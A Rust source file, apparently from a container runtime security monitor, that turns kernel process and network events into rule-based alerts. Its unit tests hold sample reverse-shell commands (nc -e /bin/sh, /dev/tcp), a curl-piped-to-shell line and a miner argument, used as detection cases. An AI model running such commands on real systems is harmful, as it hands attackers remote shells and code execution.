//! Events in, alerts out.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use foldhash::HashMap;

use haechi_core::alert::{ALERT_SCHEMA, Alert, AlertContainer, Ancestor};
use haechi_core::event::{Action, Event, Exec, Origin};
use haechi_rules::Rules;
use jiff::{SignedDuration, Timestamp};

use crate::container::{Container, Containers};
use crate::judged_before::JudgedBefore;
use crate::running;
use crate::tree::Tree;
use crate::view::View;

/// How long events of a container wait for its name: rules ask for it, and the engine answers within some milliseconds.
const NAME_WAIT: Duration = Duration::from_millis(500);
/// Events that wait for the name of one container; with more of them nothing waits.
const WAITING_MAX: usize = 10_000;

/// Programs that are remembered.
const PROGRAMS_MAX: usize = 100_000;
/// Ancestors that an alert names.
const ANCESTORS_SHOWN: usize = 8;

/// Turns the kernel's clock into the time of day.
#[derive(Debug, Clone, Copy)]
pub struct Clock {
    /// The moment at which the machine started, as the time of day says now.
    pub started: Timestamp,
}

impl Clock {
    /// The time of day at so many nanoseconds after the start.
    pub fn at(&self, nanoseconds: u64) -> Timestamp {
        let since = SignedDuration::from_nanos(i64::try_from(nanoseconds).unwrap_or(i64::MAX));
        self.started.saturating_add(since).unwrap_or(self.started)
    }
}

/// What became of one event: nothing is said of events of which there is nothing to say.
#[derive(Debug)]
pub struct Judged {
    /// The process that did it.
    pub pid: u32,
    /// What rules said.
    pub alerts: Vec<Alert>,
}

/// A program of an image, as it is told apart without reading it: control group, inode, time of the last change.
type ProgramKey = (u64, u64, i64);

/// Judges events.
pub struct Monitor {
    rules: Rules,
    clock: Clock,
    host: String,
    seen: u64,
    /// Events of containers whose name is not known yet, by control group, with the moment of the first.
    waiting: BTreeMap<u64, (Instant, Vec<Event>)>,
    /// Programs of images that were looked at, and what they are.
    programs: HashMap<ProgramKey, String>,
    before: JudgedBefore,
    /// Processes.
    pub tree: Tree,
    /// Containers.
    pub containers: Containers,
}

impl Monitor {
    /// Knows no process and no container yet.
    pub fn new(rules: Rules, clock: Clock, host: String) -> Self {
        Self {
            before: JudgedBefore::new(&rules),
            rules,
            clock,
            host,
            seen: 0,
            waiting: BTreeMap::new(),
            programs: HashMap::default(),
            tree: Tree::default(),
            containers: Containers::default(),
        }
    }

    /// The rules.
    pub const fn rules(&self) -> &Rules {
        &self.rules
    }

    /// Other rules from now on; what is known stays.
    pub fn use_rules(&mut self, rules: Rules) {
        self.before = JudgedBefore::new(&rules);
        self.rules = rules;
    }

    /// Takes an event. Those of one container have to come in the order in which they happened. They are judged at
    /// once, or, while the container has no name, when that is told or the time for it is over.
    pub fn see(&mut self, event: Event, now: Instant) -> Vec<Judged> {
        let unnamed = self.containers.get(event.cgroup).is_some_and(|known| known.name.is_empty());
        if !unnamed {
            return self.judge(event).into_iter().collect();
        }
        let (since, events) = self.waiting.entry(event.cgroup).or_insert_with(|| (now, Vec::new()));
        if now.duration_since(*since) < NAME_WAIT && events.len() < WAITING_MAX {
            events.push(event);
            return Vec::new();
        }
        let mut judged = self.release(event.cgroup);
        judged.extend(self.judge(event));
        judged
    }

    /// Takes what the engine says about a container, and judges what waited for it.
    pub fn learn(&mut self, told: &Container) -> Vec<Judged> {
        self.containers.learn(told);
        self.before.change();
        self.release_if(|containers, cgroup, _| {
            containers.get(cgroup).is_none_or(|known| !known.name.is_empty())
        })
    }

    /// Judges what has waited long enough. To be called a few times a second.
    pub fn tick(&mut self, now: Instant) -> Vec<Judged> {
        self.release_if(|_, _, since| now.duration_since(since) >= NAME_WAIT)
    }

    /// Judges all that waits: the end.
    pub fn rest(&mut self) -> Vec<Judged> {
        self.release_if(|_, _, _| true)
    }

    fn release_if(&mut self, which: impl Fn(&Containers, u64, Instant) -> bool) -> Vec<Judged> {
        if self.waiting.is_empty() {
            return Vec::new();
        }
        let all = self.waiting.iter().map(|(cgroup, (since, _))| (*cgroup, *since));
        let ready: Vec<u64> = all
            .filter(|(cgroup, since)| which(&self.containers, *cgroup, *since))
            .map(|(cgroup, _)| cgroup)
            .collect();
        ready.into_iter().flat_map(|cgroup| self.release(cgroup)).collect()
    }

    fn release(&mut self, cgroup: u64) -> Vec<Judged> {
        // The moment of the first stays, so that a container that never gets a name waits only once.
        let Some((_, events)) = self.waiting.get_mut(&cgroup) else { return Vec::new() };
        let events = std::mem::take(events);
        if self.containers.get(cgroup).is_none_or(|known| !known.name.is_empty()) {
            self.waiting.remove(&cgroup);
        }
        events.into_iter().filter_map(|event| self.judge(event)).collect()
    }

    /// Learns from an event and judges it.
    fn judge(&mut self, mut event: Event) -> Option<Judged> {
        self.seen += 1;
        // A parent outside the container (of `docker exec`) was never told of, and its id may be another's by now.
        if matches!(event.action, Action::Exec(_))
            && self.tree.get(event.process.parent).is_none_or(|known| known.started == 0)
            && let Some(parent) = running::outside(event.process.parent)
        {
            self.tree.seed(parent);
        }
        self.tree.see(&event);
        self.tree.complete(&mut event);
        let event = &event;
        if matches!(event.action, Action::Exec(_) | Action::Exit(_)) {
            self.before.change();
        }
        let mark = self.before.mark(event);
        if mark.is_some_and(|mark| self.before.is_known(mark)) {
            return None;
        }
        let mut held = false;
        if let Action::Exec(exec) = &event.action {
            held = exec.held;
            if let Some(program) = self.programs.get(&key(event, exec)) {
                self.tree.name(event, program);
            }
        }
        let alerts = self.alerts(event, &self.tree);
        if let Some(mark) = mark.filter(|_| alerts.is_empty()) {
            self.before.remember(mark);
        }
        (held || !alerts.is_empty()).then_some(Judged { pid: event.process.pid, alerts })
    }

    fn alerts(&self, event: &Event, tree: &Tree) -> Vec<Alert> {
        let container = self.containers.get(event.cgroup);
        let view = View { event, number: self.seen, tree, container, host: &self.host };
        let matching = self.rules.matching(&event.call, &view);
        matching.map(|rule| self.alert(rule, event, container, &view)).collect()
    }

    /// Whether the content of a started program should be looked at: it was not yet, or may have changed since.
    pub fn wants_identity(&self, event: &Event) -> bool {
        let Action::Exec(exec) = &event.action else { return false };
        // What is not of the image can be changed in place, and its time set back.
        if exec.origin != Origin::Image {
            return true;
        }
        !self.programs.contains_key(&key(event, exec))
    }

    /// Takes what the content of a started program was found to be (nothing, if it is none that is listed), and judges its start once more: by what it is now
    /// known to be. What was told before is not told again.
    pub fn identified(&mut self, event: &Event, program: &str) -> Judged {
        if let Action::Exec(exec) = &event.action
            && exec.origin == Origin::Image
        {
            if self.programs.len() >= PROGRAMS_MAX {
                self.programs.clear();
            }
            self.programs.insert(key(event, exec), program.to_owned());
        }
        if program.is_empty() {
            return Judged { pid: event.process.pid, alerts: Vec::new() };
        }
        let mut then = self.tree.at_start_of(event);
        let before = self.alerts(event, &then);
        self.tree.name(event, program);
        self.before.change();
        then.name(event, program);
        let mut alerts = self.alerts(event, &then);
        alerts.retain(|alert| !before.iter().any(|told| told.rule == alert.rule));
        Judged { pid: event.process.pid, alerts }
    }

    fn alert(
        &self,
        rule: &haechi_rules::Rule,
        event: &Event,
        container: Option<&Container>,
        view: &View<'_>,
    ) -> Alert {
        let mut text = String::new();
        rule.output.render(view, &mut text);
        let own = view.tree.at(event.process.pid, event.at);
        let ancestors = view.tree.ancestors(event.process.pid).take(ANCESTORS_SHOWN);
        Alert {
            schema: ALERT_SCHEMA.into(),
            at: self.clock.at(event.at),
            rule: rule.name.clone(),
            priority: rule.priority,
            text,
            tags: rule.tags.clone(),
            checks: rule.checks().map(str::to_owned).collect(),
            container: container.map(named).unwrap_or_default(),
            program: own.map(|own| own.path.clone()).unwrap_or_default(),
            command: own.map(crate::tree::Known::command_line).unwrap_or_default(),
            ancestors: ancestors
                .map(|known| Ancestor {
                    pid: known.pid,
                    name: known.name.clone(),
                    path: known.path.clone(),
                    command: known.command_line(),
                })
                .collect(),
            event: event.clone(),
        }
    }
}

fn key(event: &Event, exec: &Exec) -> ProgramKey {
    (event.cgroup, exec.inode, exec.modified)
}

fn named(container: &Container) -> AlertContainer {
    let (namespace, pod) = container.pod().unwrap_or_default();
    AlertContainer {
        id: container.id.clone(),
        name: container.name.clone(),
        image: container.image.clone(),
        namespace: namespace.to_owned(),
        pod: pod.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use haechi_core::event::{Network, Process, Socket};

    use super::*;
    use crate::fields::Fields;

    fn monitor() -> Monitor {
        let rules = Rules::load(&[crate::RULES], &Fields).rules;
        let mut monitor =
            Monitor::new(rules, Clock { started: Timestamp::UNIX_EPOCH }, "host".into());
        monitor.containers.begin(7, &"ab".repeat(32), "/docker/x", 1);
        monitor
    }

    fn event(call: &str, action: Action) -> Event {
        let process = Process { pid: 9, tid: 9, started: 5, ..Process::default() };
        Event { at: 2_000_000_000, cgroup: 7, process, call: call.into(), result: 0, action }
    }

    fn exec(path: &str, args: &[&str]) -> Event {
        let args = args.iter().map(|arg| (*arg).to_owned()).collect();
        let exec = Exec { path: path.into(), args, ..Exec::default() };
        let mut event = event("execve", Action::Exec(Box::new(exec)));
        event.process.name = path.rsplit('/').next().unwrap_or_default().into();
        event
    }

    fn all(judged: impl IntoIterator<Item = Judged>) -> Vec<Alert> {
        judged.into_iter().flat_map(|one| one.alerts).collect()
    }

    fn rules(event: &Event) -> Vec<String> {
        all(monitor().judge(event.clone())).into_iter().map(|alert| alert.rule).collect()
    }

    #[test]
    fn a_rule_that_matches_is_an_alert_with_all_that_is_known() {
        let alerts = all(monitor().judge(exec("/usr/sbin/sshd", &["sshd", "-D"])));
        let [alert] = alerts.as_slice() else { panic!("{alerts:?}") };
        assert_eq!(alert.at, "1970-01-01T00:00:02Z".parse().unwrap());
        assert_eq!((alert.program.as_str(), alert.command.as_str()), ("/usr/sbin/sshd", "sshd -D"));
        assert_eq!(alert.checks, ["container-no-ssh-server"]);
        assert_eq!(alert.container.id.len(), 64);
        assert!(alert.text.contains("command=sshd -D"), "{}", alert.text);
    }

    #[test]
    fn events_wait_for_the_name_but_not_for_ever() {
        let ssh = || exec("/usr/sbin/sshd", &["sshd"]);
        let begin = Instant::now();
        let mut named = monitor();
        assert!(named.see(ssh(), begin).is_empty());
        let told = Container { id: "ab".repeat(32), name: "web".into(), ..Container::default() };
        assert_eq!(named.learn(&told).len(), 1);
        let at_once = all(named.see(ssh(), begin));
        assert_eq!(at_once.iter().map(|a| a.container.name.as_str()).collect::<Vec<_>>(), ["web"]);

        let mut nameless = monitor();
        assert!(nameless.see(ssh(), begin).is_empty() && nameless.tick(begin).is_empty());
        assert_eq!(nameless.tick(begin + NAME_WAIT).len(), 1);
        assert_eq!(nameless.see(ssh(), begin + NAME_WAIT).len(), 1, "it has waited once");
        let mut ended = monitor();
        assert!(ended.see(ssh(), begin).is_empty());
        assert_eq!((ended.rest().len(), ended.rest().len()), (1, 0));
    }

    #[test]
    fn what_attackers_do_and_what_everybody_does() {
        for (path, args, rule) in [
            ("/bin/nc", &["nc", "10.0.0.1", "9", "-e", "/bin/sh"][..], "Reverse shell"),
            ("/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/9"], "Reverse shell"),
            ("/bin/sh", &["sh", "-c", "curl -s site | sh"], "Download piped into a shell"),
            ("/tmp/a", &["a", "-o", "stratum+tcp://pool:1"], "Crypto miner"),
            (
                "/usr/bin/apt-get",
                &["apt-get", "install", "x"],
                "Package manager run in a container",
            ),
        ] {
            assert_eq!(rules(&exec(path, args)), [rule], "{path}");
        }
        for (path, args) in [
            ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"][..]),
            ("/bin/nc", &["nc", "-z", "db", "5432"]),
            ("/bin/sh", &["sh", "-c", "curl -fsS site/health || exit 1"]),
            ("/usr/bin/ssh", &["ssh", "host"]),
        ] {
            assert_eq!(rules(&exec(path, args)), [""; 0], "{path}");
        }
    }

    #[test]
    fn the_engine_socket_is_known_by_its_name() {
        let network = |path: &str| Network {
            socket: Socket::Unix,
            local: None,
            remote: None,
            path: path.into(),
            payload: Vec::new(),
        };
        let connect = |path: &str| event("connect", Action::Network(network(path)));
        assert_eq!(rules(&connect("/var/run/docker.sock")), ["Engine socket used by a container"]);
        assert_eq!(rules(&connect("/run/app.sock")), [""; 0]);
    }
}
